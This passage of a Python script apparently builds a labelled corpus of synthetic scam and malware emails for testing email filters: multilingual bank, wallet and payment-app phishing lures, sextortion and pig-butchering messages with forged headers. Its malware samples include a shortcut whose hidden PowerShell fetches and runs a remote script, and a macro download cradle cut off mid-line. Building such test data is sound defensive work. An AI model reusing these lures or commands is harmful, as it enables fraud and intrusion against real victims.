              text("Bonjour,\n\nVeuillez trouver ci-joint un avis de sécurité important concernant votre appareil Ledger.\n\n"
                   "Cordialement,\nService Sécurité Ledger\n"),
              attachment("application/pdf", "Avis_Securite_Ledger_LDG-SEC-2024-11873.pdf", att))
    add(s, "phish", "phishing",
        "French fake Ledger security notice exploiting the customer-data leak: PDF attachment with a 'REVIEW DOCUMENT' "
        "link to ledger-securitycheck.com that harvests the recovery phrase.",
        mail(seed=s, rcv="outlook", to=CAM, frm=addr("Ledger Sécurité", "securite@ledger-notice.fr"),
             subject="Avis de sécurité concernant votre Ledger", date=d,
             msgid="<" + rs(s + "m", 30, HEX) + "@ledger-notice.fr>", ip="91.92.248.150",
             helo="ledger-notice.fr", mailfrom="securite@ledger-notice.fr", dkim=("pass", "ledger-notice.fr", "mail"),
             pol="NONE", body=b))


def attacks_payments() -> None:
    # Revolut callback
    s = "b40-phish-revolut-callback"
    d = "2025-08-19 21:36:50 +0100"
    b = alt("Revolut\n\nSuspicious payment blocked\n\nWe blocked a card payment of £1,249.00 to BINANCE*CARD "
            "(Vilnius, LT) on 19 Aug 2025 at 21:31.\n\nTo keep your money safe, your card has been frozen. A Revolut "
            "fraud specialist must confirm the transaction with you by phone.\n\nCall us now on 0203 885 1947 "
            "(quote reference RVT-FR-20918). Lines are open 24/7.\n\nDo not use the in-app chat for this case.\n\n"
            "Revolut Fraud Prevention\n",
            '<html><body style="font-family:Arial;color:#191c1f"><p style="font-size:22px;font-weight:bold">Revolut</p>'
            '<h2>Suspicious payment blocked</h2><p>We blocked a card payment of <b>&pound;1,249.00</b> to BINANCE*CARD '
            '(Vilnius, LT) on 19 Aug 2025 at 21:31.</p><p>To keep your money safe, your card has been frozen. A Revolut '
            'fraud specialist must confirm the transaction with you by phone.</p><p style="font-size:18px"><b>Call us now '
            'on 0203 885 1947</b><br>quote reference RVT-FR-20918. Lines are open 24/7.</p><p>Do not use the in-app chat '
            'for this case.</p><p>Revolut Fraud Prevention</p></body></html>\n', "----=_NextPart_" + rs(s + "bd", 20, HEX))
    add(s, "phish", "phishing",
        "Callback scam: fake Revolut 'suspicious payment blocked, card frozen' alert with a London phone number and an "
        "instruction not to use the in-app chat; from look-alike revolut-alerts.co.uk.",
        mail(seed=s, rcv="quantleaf", to=JO, frm=addr("Revolut", "no-reply@revolut-alerts.co.uk"),
             subject="Card frozen: suspicious payment of £1,249.00", date=d,
             msgid="<" + rs(s + "m", 20, HEX) + "@revolut-alerts.co.uk>", ip="77.91.124.55",
             helo="revolut-alerts.co.uk", mailfrom="no-reply@revolut-alerts.co.uk",
             dkim=("pass", "revolut-alerts.co.uk", "s1"), pol="NONE", body=b))

    # N26 German restriction
    s = "b40-phish-n26-konto-eingeschraenkt-de"
    d = "2025-03-11 07:14:22 +0100"
    link = "https://n26-kundenverifizierung.de/login?ref=kyc2025"
    b = card_alt("------------" + rs(s + "bd", 24, "0123456789"), "N26", "#36a18b", "Ihr Konto wurde eingeschränkt",
                 ["Hallo Sophie,",
                  "aufgrund der neuen EU-Geldwäscherichtlinie sind wir verpflichtet, die Angaben aller Kundinnen und "
                  "Kunden zu aktualisieren. Leider konnten wir Ihre Identität nicht automatisch bestätigen.",
                  "Bis zur Bestätigung sind Überweisungen und Kartenzahlungen eingeschränkt. Bitte bestätigen Sie Ihre "
                  "Daten innerhalb von 48 Stunden und geben Sie die Freigabe in der App."],
                 ("Jetzt bestätigen", link),
                 ["N26 Bank SE, Voltairestraße 8, 10179 Berlin", "Dies ist eine automatisch erstellte E-Mail."], lang="de")
    add(s, "phish", "phishing",
        "German N26 'account restricted' KYC lure from look-alike n26-kundenverifizierung.de; the clone asks for login "
        "and an in-app pairing approval (device takeover).",
        mail(seed=s, rcv="gmx", to=SOPH, frm=addr("N26 Kundenservice", "service@n26-kundenverifizierung.de"),
             subject="Ihr N26 Konto wurde vorübergehend eingeschränkt", date=d,
             msgid="<" + rs(s + "m", 32, HEX) + "@n26-kundenverifizierung.de>", ip="185.244.182.91",
             helo="mx.n26-kundenverifizierung.de", mailfrom="service@n26-kundenverifizierung.de",
             dkim=("pass", "n26-kundenverifizierung.de", "default"), pol="NONE", body=b))

    # Monzo new payee (spoof with DMARC fail, quarantined domain)
    s = "b40-phish-monzo-new-payee"
    d = "2024-11-05 18:02:44 +0000"
    link = "https://monzo-payee-check.com/cancel?id=PY88172"
    b = card_alt("b2_" + rs(s + "bd", 26, HEX), "Monzo", "#ff4f40", "New payee added to your account",
                 ["Hi there,", "You just added a new payee: <b>J HARRIS</b> (sort code 04-00-75, account ending 8812).",
                  "If you didn't do this, cancel it now - a payment of £2,400.00 to this payee is scheduled for tonight."],
                 ("Cancel this payee", link), ["Monzo Bank Limited, Broadwalk House, 5 Appold St, London EC2A 2AG"])
    add(s, "phish", "phishing",
        "Spoofed Monzo 'new payee added, £2,400 scheduled' alert sent with Monzo's own From domain from an unrelated "
        "server: SPF and DMARC fail; link to monzo-payee-check.com.",
        mail(seed=s, rcv="quantleaf", to=JO, frm=addr("Monzo", "help@monzo.com"),
             subject="New payee added: J HARRIS", date=d, msgid="<" + rs(s + "m", 20, HEX) + "@monzo.com>",
             ip="103.153.79.12", helo="mail.monzo.com", rdns="", mailfrom="help@monzo.com", spf="fail", dkim=None,
             dmarc="fail", pol="QUARANTINE", body=b))

    # Cash App business upgrade scam
    s = "b40-phish-cashapp-business-upgrade"
    d = "2025-05-02 16:20:09 -0500"
    b = text("""<html><body style="font-family:Arial;text-align:center;color:#000">
<div style="max-width:480px;margin:auto;padding:20px">
<div style="background:#00d64f;color:#fff;font-size:30px;font-weight:bold;padding:14px;border-radius:12px">$ Cash App</div>
<h2>You received $850.00</h2>
<p>From: <b>$MarieJ1986</b><br>For: PS5 console + 2 controllers</p>
<p style="background:#fff4e5;padding:12px;border-radius:8px;color:#a35b00"><b>PAYMENT PENDING</b><br>
Your account limit does not allow you to receive this amount. To release the funds, the sender must upgrade your
account to a <b>Cash App for Business</b> account by sending an additional <b>$150.00</b>. This amount will be refunded
together with the payment within 5 minutes.</p>
<p>Payment ID: #CA-88210435</p>
<p style="font-size:11px;color:#888">Cash App &middot; Block, Inc. 1955 Broadway, Suite 600, Oakland, CA 94612</p>
</div></body></html>
""", "html")
    add(s, "phish", "phishing",
        "Marketplace overpayment scam: fake Cash App 'payment pending, upgrade to business account' notice from a Gmail "
        "address, setting up a demand that the seller refund $150 to the 'buyer'.",
        mail(seed=s, rcv="gmail", to=KEV, frm=addr("Cash App", "cashapp.paymentservice01@gmail.com"),
             subject="Payment Pending: $850.00 from $MarieJ1986", date=d,
             msgid="<CAK" + rs(s + "m", 40, ALNUM + "_-") + "@mail.gmail.com>",
             ip="209.85.220.41", helo="mail-sor-f41.google.com", mailfrom="cashapp.paymentservice01@gmail.com",
             dkim=("pass", "gmail.com", "20230601"), pol="NONE", body=b))

    # Venmo pending upgrade (Outlook.com sender)
    s = "b40-phish-venmo-pending-business"
    d = "2024-07-16 12:11:48 -0700"
    b = alt("Venmo\n\nHi Kevin,\n\nSarah Collins paid you $1,200.00 - Deposit for couch and dining table.\n\n"
            "STATUS: ON HOLD\n\nThis payment is on hold because your Venmo account is a personal account. To receive "
            "payments for goods, upgrade to a Business profile. The buyer has been notified and must send $300.00 for "
            "the upgrade fee, which will be refunded to you together with the payment.\n\nOnce the buyer sends the fee, "
            "you must refund the $300.00 to the buyer to complete the upgrade.\n\nVenmo Support Team\n",
            '<html><body style="font-family:Helvetica,Arial"><div style="max-width:520px;margin:auto">'
            '<div style="color:#008cff;font-size:32px;font-weight:bold;font-style:italic">venmo</div>'
            '<p>Hi Kevin,</p><p><b>Sarah Collins</b> paid you <b>$1,200.00</b><br>Deposit for couch and dining table</p>'
            '<p style="color:#d0021b"><b>STATUS: ON HOLD</b></p><p>This payment is on hold because your Venmo account is '
            'a personal account. To receive payments for goods, upgrade to a Business profile. The buyer has been notified '
            'and must send $300.00 for the upgrade fee, which will be refunded to you together with the payment.</p>'
            '<p>Once the buyer sends the fee, you must refund the $300.00 to the buyer to complete the upgrade.</p>'
            '<p>Venmo Support Team</p></div></body></html>\n', "_000_" + rs(s + "bd", 24, ALNUM) + "_")
    add(s, "phish", "phishing",
        "Venmo marketplace scam: fake 'payment on hold until you upgrade to Business' notice from an Outlook.com account, "
        "engineering a $300 'refund' to the fake buyer.",
        mail(seed=s, rcv="gmail", to=KEV, frm=addr("Venmo Service", "venmo.service.team@outlook.com"),
             subject="Payment on hold - $1,200.00 from Sarah Collins", date=d,
             msgid="<SA1P223MB0744" + rs(s + "m", 8, "0123456789ABCDEF") + "@SA1P223MB0744.NAMP223.PROD.OUTLOOK.COM>",
             ip="40.92.22.51", helo="NAM10-BN7-obe.outbound.protection.outlook.com",
             rdns="mail-bn7nam10olkn2051.outbound.protection.outlook.com", mailfrom="venmo.service.team@outlook.com",
             dkim=("pass", "outlook.com", "selector1"), pol="NONE", body=b))

    # Zelle limit scam in Spanish
    s = "b40-phish-zelle-limite-es"
    d = "2025-01-08 10:44:02 -0600"
    b = text("Zelle®\n\nHola,\n\nUsted ha recibido un pago de $600.00 USD de Roberto Méndez.\n\nEstado: PENDIENTE\n\n"
             "El pago no pudo ser acreditado porque su cuenta alcanzó el límite para transacciones comerciales. "
             "El remitente ya fue notificado y enviará $400.00 adicionales para activar su cuenta comercial. "
             "Una vez recibidos, usted deberá devolver esos $400.00 al remitente por Zelle para liberar el total.\n\n"
             "Referencia: ZL-55820391\n\nAtentamente,\nEquipo de Pagos Zelle\nEarly Warning Services, LLC\n")
    add(s, "phish", "phishing",
        "Spanish Zelle 'payment pending, business limit reached' scam (Zelle sends no such e-mail) from a free Hotmail "
        "account, asking the seller to send $400 back to the 'buyer'.",
        mail(seed=s, rcv="outlook", to=VAL, frm=addr("Zelle Pagos", "zelle.pagos.notificacion@hotmail.com"),
             subject="Zelle: pago pendiente de $600.00", date=d,
             msgid="<BY5PR20MB" + rs(s + "m", 10, "0123456789ABCDEF") + "@BY5PR20MB4482.namprd20.prod.outlook.com>",
             ip="40.92.19.88", helo="NAM12-DM6-obe.outbound.protection.outlook.com",
             rdns="mail-dm6nam12olkn2088.outbound.protection.outlook.com", mailfrom="zelle.pagos.notificacion@hotmail.com",
             dkim=("pass", "hotmail.com", "selector1"), pol="NONE", body=b))

    # Nubank Pix
    s = "b40-phish-nubank-pix-bloqueado-pt"
    d = "2025-06-24 08:05:31 -0300"
    link = "https://nubank-seguranca.app/pix/desbloqueio?cpf=***.482.917-**"
    b = card_alt("--_" + rs(s + "bd", 22, HEX), "Nu", "#820ad1", "Seu Pix foi bloqueado preventivamente",
                 ["Oi, Lucas!", "Identificamos uma tentativa de transferência Pix de <b>R$ 3.870,00</b> para uma chave "
                  "não reconhecida e bloqueamos sua conta por segurança.",
                  "Para desbloquear, confirme seus dados e cadastre novamente seu dispositivo em até 24 horas."],
                 ("Desbloquear minha conta", link),
                 ["Nu Pagamentos S.A. - Instituição de Pagamento", "CNPJ 18.236.120/0001-58"], lang="pt-BR")
    add(s, "phish", "phishing",
        "Portuguese Nubank 'Pix blocked' lure from look-alike nubank-seguranca.app via Amazon SES; link to a clone that "
        "re-registers the attacker's device.",
        mail(seed=s, rcv="gmail", to=LUC, frm=addr("Nubank", "avisos@nubank-seguranca.app"),
             subject="Pix bloqueado: confirme seus dados", date=d,
             msgid="<010001979f" + rs(s + "m", 6, HEX) + "-" + rs(s + "n", 8, HEX) + "-" + rs(s + "o", 4, HEX) + "-"
             + rs(s + "p", 4, HEX) + "-" + rs(s + "q", 12, HEX) + "-000000@email.amazonses.com>",
             ip="54.240.8.33", helo="a8-33.smtp-out.amazonses.com", rdns="a8-33.smtp-out.amazonses.com",
             mailfrom="010001979f" + rs(s + "r", 20, HEX) + "@amazonses.com", dkim=("pass", "nubank-seguranca.app", "dkim1"),
             pol="NONE", body=b))

    # Mercado Pago suspended (Spanish, Argentina)
    s = "b40-phish-mercadopago-suspendida-es"
    d = "2024-09-03 11:27:45 -0300"
    link = "http://bit.ly/mp-validar-cuenta"
    b = text(f"""<html><body style="font-family:Proxima Nova,Arial;background:#ededed">
<table width="100%"><tr><td align="center"><table width="580" style="background:#fff;border-radius:6px"><tr><td style="padding:30px">
<div style="background:#00b1ea;color:#fff;padding:10px;font-weight:bold;font-size:20px">mercado pago</div>
<h2>Tu cuenta fue suspendida temporalmente</h2>
<p>Hola Valentina:</p>
<p>Detectamos movimientos inusuales en tu cuenta y, para protegerte, suspendimos temporalmente el uso de tu dinero
disponible (<b>$ 412.380,00</b>).</p>
<p>Validá tu identidad para reactivarla. Si no lo hacés en 24 horas, tu cuenta quedará inhabilitada.</p>
<p><a href="{link}" style="background:#009ee3;color:#fff;padding:12px 24px;border-radius:6px;text-decoration:none">Validar mi identidad</a></p>
<p style="font-size:12px;color:#999">Mercado Pago &middot; Av. Caseros 3039, CABA</p>
</td></tr></table></td></tr></table></body></html>
""", "html")
    add(s, "phish", "phishing",
        "Argentine Spanish Mercado Pago 'account suspended' lure from a compromised hosting account (cPanel), bit.ly "
        "link to a credential and DNI-photo harvesting clone.",
        mail(seed=s, rcv="outlook", to=VAL, frm=addr("Mercado Pago", "info@inmobiliariasantafe.com.ar"),
             subject="Tu cuenta fue suspendida temporalmente", date=d,
             msgid="<" + rs(s + "m", 32, HEX) + "@inmobiliariasantafe.com.ar>", ip="200.58.112.94",
             helo="cpanel21.dattatec.com", rdns="cpanel21.dattatec.com", mailfrom="info@inmobiliariasantafe.com.ar",
             dkim=("pass", "inmobiliariasantafe.com.ar", "default"), pol="NONE",
             pre=[hop("[45.238.182.3]", "45.238.182.3", "cpanel21.dattatec.com", d, 0, "esmtpsa (TLS1.2) tls "
                      "TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384\n\t(Exim 4.97.1)\n\t(envelope-from <info@inmobiliariasantafe.com.ar>)",
                      "1slb2K-" + rs(s + "ex", 10, ALNUM), "")],
             body=b))

    # Pig-butchering wrong-number opener
    s = "b40-phish-pig-butchering-wrong-number"
    d = "2025-09-08 20:14:06 -0700"
    b = text("Hi Daniel, is this still your email? It's Jenny from the wine tasting in Napa last month, you gave me "
             "your card 😊\n\nSorry if I have the wrong person! If so, maybe it is fate lol. I'm Jenny, I live in SF "
             "and work in fashion import, and on the side I do a little crypto trading with my aunt who is an "
             "analyst in Singapore. \n\nAnyway, hope you're having a nice evening. Write back if you want to "
             "chat!\n\nJenny\n")
    add(s, "phish", "phishing",
        "Pig-butchering opener: 'wrong person' message from a stranger's Gmail, seeding a friendship and a 'crypto "
        "analyst aunt' for a later fake investment platform.",
        mail(seed=s, rcv="gmail", to=DAN, frm=addr("Jenny Lin", "jennylin.sf0912@gmail.com"),
             subject="Hi from Napa 🍷", date=d, msgid="<CAO" + rs(s + "m", 40, ALNUM + "_-") + "@mail.gmail.com>",
             ip="209.85.220.41", helo="mail-sor-f41.google.com", mailfrom="jennylin.sf0912@gmail.com",
             dkim=("pass", "gmail.com", "20230601"), pol="NONE", body=b))

    # Investment platform opener
    s = "b40-phish-investment-platform-opener"
    d = "2025-02-17 09:31:12 +0000"
    link = "https://app.vexacoin-pro.com/register?inv=AMY2025"
    b = card_alt("--b" + rs(s + "bd", 24, HEX), "VexaCoin PRO", "#1a7f64", "Your AI arbitrage account is ready",
                 ["Hello,", "Following your conversation with our partner Amy, a VIP arbitrage account has been "
                  "reserved for you. Our AI quantitative engine generated an average <b>2.4% daily return</b> in "
                  "2024, with capital protection guaranteed.",
                  "Deposit a minimum of 500 USDT (TRC20/ERC20) to activate your account and receive a "
                  "<b>30% welcome bonus</b>."],
                 ("Activate my VIP account", link),
                 ["VexaCoin PRO Ltd &middot; Registered with FinCEN (MSB)", "Investment involves risk."])
    add(s, "phish", "phishing",
        "Pig-butchering platform opener: fake 'AI arbitrage' exchange promising 2.4% daily guaranteed returns and a deposit "
        "bonus, referring to the victim's chat contact 'Amy'.",
        mail(seed=s, rcv="quantleaf", to=JO, frm=addr("VexaCoin PRO", "vip@vexacoin-pro.com"),
             subject="Your VIP arbitrage account has been reserved", date=d,
             msgid="<" + rs(s + "m", 28, HEX) + "@vexacoin-pro.com>", ip="154.213.187.20",
             helo="mail.vexacoin-pro.com", mailfrom="vip@vexacoin-pro.com", dkim=("pass", "vexacoin-pro.com", "default"),
             pol="NONE", body=b))

    # Investment platform withdrawal tax
    s = "b40-phish-investment-withdrawal-tax"
    d = "2025-04-03 03:52:40 +0000"
    b = text("Dear valued client,\n\nYour withdrawal request of 48,210.55 USDT (account ID 7720184) has been reviewed by "
             "our risk control department.\n\nAccording to the regulations of the Monetary Authority, profits above "
             "20,000 USDT are subject to a 15% personal income tax, which must be paid before the funds can be "
             "released:\n\n  Tax due: 7,231.58 USDT\n  Deposit address (TRC20): TXf3Qe8bVn1yP6kR2mW9sL4dJ7hC5aZ0uE\n"
             "  Deadline: 72 hours\n\nIf the tax is not paid within the deadline, the account will be frozen for "
             "money-laundering review and a penalty of 30% will apply.\n\nRisk Control Department\nCoinDelta Global "
             "Exchange\n", encoding="7bit")
    add(s, "phish", "phishing",
        "Pig-butchering exit stage: fake exchange demands a 15% 'income tax' of 7,231 USDT before a 48,210 USDT "
        "withdrawal can be released, threatening a freeze.",
        mail(seed=s, rcv="gmail", to=DAN, frm=addr("CoinDelta Risk Control", "risk@coindelta-global.com"),
             subject="Withdrawal review result - tax payment required", date=d,
             msgid="<" + rs(s + "m", 24, HEX) + "@coindelta-global.com>", ip="103.97.179.66",
             helo="mail.coindelta-global.com", mailfrom="risk@coindelta-global.com",
             dkim=("pass", "coindelta-global.com", "default"), pol="NONE", body=b))

    # Recovery scam, Spanish
    s = "b40-phish-recuperacion-fondos-es"
    d = "2025-10-14 12:09:27 +0200"
    b = text("Estimada Sra. Ruiz:\n\nNos ponemos en contacto con usted desde la Unidad de Recuperación de Activos "
             "Digitales en colaboración con la Policía Nacional. En el marco de la investigación sobre la plataforma "
             "fraudulenta «BitKronos», hemos localizado y congelado 18.400 EUR en criptomonedas asociados a su "
             "nombre.\n\nPara proceder a la devolución es necesario abonar la tasa de tramitación y liberación "
             "(1.150 EUR), que se reembolsará íntegramente junto con sus fondos. Un agente le llamará en las "
             "próximas 24 horas para guiarle en el proceso mediante la aplicación AnyDesk.\n\nNúmero de expediente: "
             "URAD/2025/07731\n\nAtentamente,\nLic. Fernando Castaño\nUnidad de Recuperación de Activos Digitales\n")
    add(s, "phish", "phishing",
        "Spanish recovery scam targeting earlier fraud victims: fake 'asset recovery unit with the Policía Nacional' "
        "asks a 1,150 EUR release fee and remote access via AnyDesk.",
        mail(seed=s, rcv="ruizpaz", to=MARTA, frm=addr("Unidad Recuperación Activos", "expedientes@urad-recuperacion.eu"),
             subject="Expediente URAD/2025/07731 - fondos localizados a su nombre", date=d,
             msgid="<" + rs(s + "m", 26, HEX) + "@urad-recuperacion.eu>", ip="185.221.219.14",
             helo="urad-recuperacion.eu", mailfrom="expedientes@urad-recuperacion.eu",
             dkim=("pass", "urad-recuperacion.eu", "mail"), pol="NONE", body=b))

    # Sextortion EN (spoofs victim's own address)
    s = "b40-phish-sextortion-btc-en"
    d = "2025-07-02 04:18:33 +0000"
    b = text("Hello pervert,\n\nI've got some bad news for you. A few months ago I gained access to the devices you "
             "use for browsing the internet. I installed a Trojan that gives me full access to your camera and "
             "microphone.\n\nI recorded you while you were watching adult websites, and I have put together a video "
             "showing both the screen and you. With one click I can send it to all your contacts and colleagues.\n\n"
             "To prevent this, transfer $1,450 in Bitcoin to my wallet:\n\nbc1qr4h8u2x0y7n3fk5tw6lq9dze2vgm8ca3p0sl7u\n\n"
             "You have 48 hours from opening this email. I can see when you read it. Don't try to contact anyone - "
             "if you do, the video goes out immediately.\n\nThis email was sent from your own account, which proves I "
             "have access.\n", encoding="7bit")
    add(s, "phish", "phishing",
        "Sextortion: claims device compromise and a webcam video, demands $1,450 in Bitcoin; From forged as the victim's "
        "own address (SPF softfail, DMARC fail on the work domain).",
        mail(seed=s, rcv="quantleaf", to=JO, frm=addr("", JO), subject="j.okafor - your account was hacked", date=d,
             msgid="<" + rs(s + "m", 14, "0123456789") + "." + rs(s + "n", 6, "0123456789") + "@quantleaf.io>",
             ip="186.96.211.70", helo="[186.96.211.70]", rdns="", mailfrom=JO, spf="softfail", dkim=None,
             dmarc="fail", pol="NONE", body=b))

    # Sextortion FR
    s = "b40-phish-sextorsion-btc-fr"
    d = "2024-05-21 13:42:09 +0200"
    b = text("Bonjour,\n\nJe suis un hacker professionnel et j'ai réussi à pirater votre système d'exploitation. "
             "Votre adresse e-mail et votre mot de passe figurent dans une fuite de données.\n\nJ'ai enregistré une "
             "vidéo de vous pendant que vous regardiez des sites pour adultes, grâce à votre webcam.\n\nSi vous "
             "voulez que je supprime ces fichiers, envoyez 1 200 EUR en Bitcoin à l'adresse suivante :\n\n"
             "1Mz7kQ4yV9pT3wRbN6xHcE2uLf8aJdS5oG\n\nVous avez 50 heures. Si vous ne payez pas, la vidéo sera envoyée à "
             "tous vos contacts et publiée sur les réseaux sociaux.\n\nNe répondez pas à ce message.\n")
    add(s, "phish", "phishing",
        "French sextortion demanding 1,200 EUR in Bitcoin, sent from a bulk VPS with a random .ru sender and no "
        "authentication.",
        mail(seed=s, rcv="outlook", to=CAM, frm=addr("Anonyme", "q7mx2@fastmail-kb.ru"),
             subject="Votre vie privée est en danger", date=d, msgid="<" + rs(s + "m", 18, HEX) + "@fastmail-kb.ru>",
             ip="5.42.79.163", helo="fastmail-kb.ru", rdns="", mailfrom="q7mx2@fastmail-kb.ru", spf="none",
             dkim=None, dmarc="absent", body=b))

    # Task scam job, Turkish
    s = "b40-phish-gorev-is-usdt-tr"
    d = "2025-11-18 10:33:51 +0300"
    b = text("Merhaba Emre Bey,\n\nÖzgeçmişinizi kariyer platformunda gördük. Uzaktan, günde 30-60 dakika çalışarak "
             "günlük 1.500 - 4.000 TL arası kazanç sağlayabileceğiniz bir pozisyonumuz var.\n\nGörev: Otel ve "
             "uygulama değerlendirmelerini platformumuz üzerinden onaylamak.\nÖdeme: Günlük, USDT (TRC20) veya "
             "Papara ile.\nDeneyim gerekmez.\n\nDetaylı bilgi için WhatsApp üzerinden İK temsilcimiz Selin Hanım'a "
             "yazabilirsiniz: +90 552 731 40 18\n\nSaygılarımızla,\nGlobalRate Dijital İK Ekibi\n")
    add(s, "phish", "phishing",
        "Turkish task-job scam: unsolicited 'remote rating job' paid in USDT, moving the victim to WhatsApp where "
        "'tasks' will require crypto deposits.",
        mail(seed=s, rcv="outlook", to=EMRE, frm=addr("GlobalRate İK", "ik.globalrate@gmail.com"),
             subject="Uzaktan çalışma teklifi - günlük ödeme", date=d,
             msgid="<CAM" + rs(s + "m", 40, ALNUM + "_-") + "@mail.gmail.com>", ip="209.85.208.170",
             helo="mail-lj1-f170.google.com", mailfrom="ik.globalrate@gmail.com", dkim=("pass", "gmail.com", "20230601"),
             pol="NONE", body=b))


def attacks_extra() -> None:
    # Wise transfer on hold, kit on Google Sites (Spanish)
    s = "b40-phish-wise-transferencia-retenida-es"
    d = "2025-09-09 09:47:13 +0200"
    link = "https://sites.google.com/view/wise-verificacion-es/inicio"
    b = card_alt("--" + rs(s + "bd", 28, HEX), "Wise", "#9fe870", "Tu transferencia está retenida",
                 ["Hola Marta:", "Tu transferencia de <b>2.300,00 EUR</b> a <b>Estudio Nomade SL</b> ha sido retenida por "
                  "nuestro equipo de verificación.",
                  "Para liberarla, confirma tu identidad y los datos de tu tarjeta vinculada en las próximas 24 horas. "
                  "Si no lo haces, el importe será devuelto con una comisión de 35 EUR."],
                 ("Verificar ahora", link), ["Wise Europe SA &middot; Rue du Trône 100, 1050 Bruselas"], lang="es")
    add(s, "phish", "phishing",
        "Spanish fake Wise 'transfer on hold' notice sent from a look-alike domain; the verification page is hosted on "
        "Google Sites and collects login and card details.",
        mail(seed=s, rcv="ruizpaz", to=MARTA, frm=addr("Wise", "noreply@wise-transferencias.com"),
             subject="Tu transferencia de 2.300,00 EUR está retenida", date=d,
             msgid="<" + rs(s + "m", 30, HEX) + "@wise-transferencias.com>", ip="45.150.108.77",
             helo="mail.wise-transferencias.com", mailfrom="noreply@wise-transferencias.com",
             dkim=("pass", "wise-transferencias.com", "default"), pol="NONE", body=b))


def attacks_malware() -> None:
    # Fake Ledger Live update, link to exe
    s = "b40-phish-ledger-live-update-link"
    d = "2024-12-17 15:06:40 +0000"
    link = "https://ledger-live-update.com/download/Ledger-Live-Setup-2.94.1.exe"
    b = card_alt("----=_Part_" + rs(s + "bd", 16, "0123456789"), "LEDGER", "#000000",
                 "Critical firmware update for Ledger Nano S Plus / Nano X",
                 ["Dear Ledger customer,",
                  "A critical vulnerability affecting the Secure Element firmware of Ledger Nano devices has been "
                  "patched. To keep your assets safe, install <b>Ledger Live 2.94.1</b> which will update your device "
                  "firmware to version 2.4.1.",
                  "Devices that are not updated before <b>December 20</b> will be blocked from signing transactions "
                  "in Ledger Live."],
                 ("Download Ledger Live 2.94.1", link),
                 ["Ledger SAS &middot; 1 rue du Mail, 75002 Paris", "Never share your 24-word recovery phrase."])
    add(s, "phish", "malware",
        "Fake Ledger Live 'critical firmware update' from look-alike ledger-live-update.com linking directly to a Windows "
        "installer (trojanised Ledger Live that asks for the seed and steals wallets).",
        mail(seed=s, rcv="gmail", to=DAN, frm=addr("Ledger", "updates@ledger-live-update.com"),
             subject="Critical firmware update required for your Ledger device", date=d,
             msgid="<" + rs(s + "m", 30, HEX) + "@ledger-live-update.com>", ip="194.26.135.88",
             helo="mail.ledger-live-update.com", mailfrom="updates@ledger-live-update.com",
             dkim=("pass", "ledger-live-update.com", "default"), pol="NONE", body=b))

    # AI trading bot zip with exe
    s = "b40-phish-trading-bot-zip"
    d = "2025-03-26 18:40:15 +0000"
    arc = zip_archive([("QuantumArb_Bot_v3.2/QuantumArbBot.exe", pe_stub()),
                       ("QuantumArb_Bot_v3.2/config.json", b'{"exchange":"binance","api_key":"","secret":"","pairs":["BTC/USDT","ETH/USDT"],"risk":"medium"}\n'),
                       ("QuantumArb_Bot_v3.2/README.txt", b"1. Run QuantumArbBot.exe as administrator\r\n2. Disable Windows Defender real-time protection (false positive)\r\n3. Paste your Binance API key and enable withdrawals\r\n")])
    b = mixed("000000000000" + rs(s + "bd", 16, HEX),
              alt("Hey Jordan,\n\nAs promised in the Telegram group, here is the beta of QuantumArb Bot v3.2 - it is "
                  "the same build our VIP members use (avg +3.1%/day on BTC/USDT arbitrage last month).\n\nUnzip, run "
                  "QuantumArbBot.exe as admin and paste your Binance API key (enable withdrawals so the bot can "
                  "rebalance between exchanges). Windows Defender sometimes flags it, it's a false positive because "
                  "of the obfuscation we use to protect the strategy.\n\nCheers,\nMax\nQuantumArb Team\n",
                  '<div dir="ltr">Hey Jordan,<br><br>As promised in the Telegram group, here is the beta of QuantumArb '
                  'Bot v3.2 - it is the same build our VIP members use (avg +3.1%/day on BTC/USDT arbitrage last month).'
                  '<br><br>Unzip, run QuantumArbBot.exe as admin and paste your Binance API key (enable withdrawals so the '
                  'bot can rebalance between exchanges). Windows Defender sometimes flags it, it&#39;s a false positive '
                  'because of the obfuscation we use to protect the strategy.<br><br>Cheers,<br>Max<br>QuantumArb Team</div>\n',
                  "000000000000" + rs(s + "bd2", 16, HEX)),
              attachment("application/zip", "QuantumArb_Bot_v3.2.zip", arc))
    add(s, "phish", "malware",
        "Malware posing as an 'AI arbitrage trading bot': zip with an executable, instructions to disable Defender and "
        "paste a withdrawal-enabled Binance API key; from a Gmail account met in a Telegram group.",
        mail(seed=s, rcv="quantleaf", to=JO, frm=addr("Max | QuantumArb", "quantumarb.team@gmail.com"),
             subject="QuantumArb Bot v3.2 beta - your copy", date=d,
             msgid="<CAH" + rs(s + "m", 40, ALNUM + "_-") + "@mail.gmail.com>", ip="209.85.128.44",
             helo="mail-wm1-f44.google.com", mailfrom="quantumarb.team@gmail.com", dkim=("pass", "gmail.com", "20230601"),
             pol="NONE", body=b))

    # Phantom desktop ISO with LNK
    s = "b40-phish-phantom-desktop-iso"
    d = "2025-08-05 11:12:58 +0000"
    lnk = lnk_shortcut(r"C:\Windows\System32\cmd.exe",
                       r"/c start /min powershell -w h -ep bypass -c iwr https://phantom-desktop.app/u/p.ps1|iex & start PhantomSetup.exe")
    iso = iso_image([("Phantom Desktop Setup.lnk", lnk), ("PhantomSetup.exe", pe_stub())], "PHANTOM")
    b = mixed("--_com.phantom_" + rs(s + "bd", 16, HEX),
              text("Hi,\n\nThank you for joining the Phantom Desktop early-access program. Phantom Desktop brings your "
                   "Solana, Ethereum and Bitcoin wallets to Windows with hardware-grade key storage.\n\nOpen the attached "
                   "disk image and run \"Phantom Desktop Setup\" to install. Then import your existing wallet with your "
                   "recovery phrase.\n\nPhantom Early Access\n", encoding="7bit"),
              attachment("application/octet-stream", "PhantomDesktop_EarlyAccess.iso", iso))
    add(s, "phish", "malware",
        "Fake 'Phantom Desktop early access' with an ISO image holding a shortcut that runs a hidden PowerShell "
        "download-and-execute plus a setup executable.",
        mail(seed=s, rcv="outlook", to=VAL, frm=addr("Phantom Early Access", "earlyaccess@phantom-desktop.app"),
             subject="Your Phantom Desktop early-access build", date=d,
             msgid="<" + rs(s + "m", 24, HEX) + "@phantom-desktop.app>", ip="45.61.136.201",
             helo="phantom-desktop.app", mailfrom="earlyaccess@phantom-desktop.app",
             dkim=("pass", "phantom-desktop.app", "s1"), pol="NONE", body=b))

    # N26 statement docm
    s = "b40-phish-n26-kontoauszug-docm"
    d = "2024-04-16 09:03:27 +0200"
    macro = ('Sub AutoOpen()\r\n    Dim s As String\r\n    s = "powershell -nop -w hidden -c ""iex(New-Object Net.WebClient)'
